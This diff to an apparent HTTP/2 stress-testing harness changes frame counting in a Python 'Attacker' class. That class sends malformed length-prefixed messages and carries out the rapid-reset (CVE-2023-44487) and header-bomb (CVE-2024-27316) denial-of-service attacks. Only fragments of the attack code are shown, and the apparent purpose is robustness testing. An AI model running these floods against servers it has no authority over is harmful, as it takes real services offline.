@@ -49,8 +49,14 @@ class Attacker:
         self._chance = random.Random(seed)
         self.frames = 0
 
-    def send(self, frames: list[bytes], *, greet: bool = True) -> None:
-        """Send these on a connection of their own, as long as it is open."""
+    def send(self, frames: list[bytes], *, greet: bool = True, each: int = 1) -> None:
+        """Send these on a connection of their own, as long as it is open.
+
+        Args:
+            frames: What is sent.
+            greet: Whether it begins as HTTP/2 does.
+            each: How many frames each of them is.
+        """
         with suppress(OSError), socket.create_connection(self._address, _TIMEOUT_S) as one:
             one.settimeout(_TIMEOUT_S)
             if greet:
@@ -58,7 +64,7 @@ class Attacker:
             for place in range(0, len(frames), 200):
                 part = frames[place : place + 200]
                 one.sendall(b"".join(part))
-                self.frames += len(part)
+                self.frames += each * len(part)
                 with suppress(BlockingIOError):  # what it has to say must not fill its buffers
                     one.setblocking(False)
                     if one.recv(1 << 20) == b"":
@@ -91,8 +97,7 @@ class Attacker:
             size = len(body) if self._chance.random() < 0.8 else self._chance.randrange(1 << 32)
             message = struct.pack(">BI", self._chance.choice((0, 0, 0, 1, 7)), size) + body
             sent.append(frame(1, 4, stream, request_head()) + frame(0, 1, stream, message))
-        self.send(sent)
-        self.frames += count  # each is two
+        self.send(sent, each=2)
 
     def rapid_reset(self, count: int) -> None:
         """Begin calls and call each off at once (CVE-2023-44487)."""
@@ -101,9 +106,9 @@ class Attacker:
             [
                 frame(1, 4, 2 * number + 1, head) + frame(3, 0, 2 * number + 1, b"\0\0\0\x08")
                 for number in range(count)
-            ]
+            ],
+            each=2,
         )
-        self.frames += count
 
     def header_bomb(self, parts: int) -> None:
         """Send headers without an end (CVE-2024-27316)."""
